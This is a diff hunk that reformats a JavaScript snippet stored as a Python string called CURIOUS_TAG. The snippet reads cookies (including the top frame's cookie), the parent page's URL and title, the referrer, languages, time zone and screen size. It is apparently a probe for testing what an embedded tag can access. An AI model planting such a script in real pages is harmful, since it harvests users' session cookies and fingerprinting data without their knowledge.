@@ -18,7 +18,8 @@ CURIOUS_TAG = """
   const found = {
     cookie: attempt(() => document.cookie), referrer: attempt(() => document.referrer),
     address: attempt(() => location.pathname), parent: attempt(() => parent.location.href),
-    title: attempt(() => parent.document.title), own: attempt(() => document.title), top: attempt(() => top.document.cookie),
+    title: attempt(() => parent.document.title), own: attempt(() => document.title),
+    top: attempt(() => top.document.cookie),
     origin: attempt(() => origin), languages: attempt(() => navigator.languages),
     zone: attempt(() => Intl.DateTimeFormat().resolvedOptions().timeZone), screen: attempt(() => screen.width),
   }
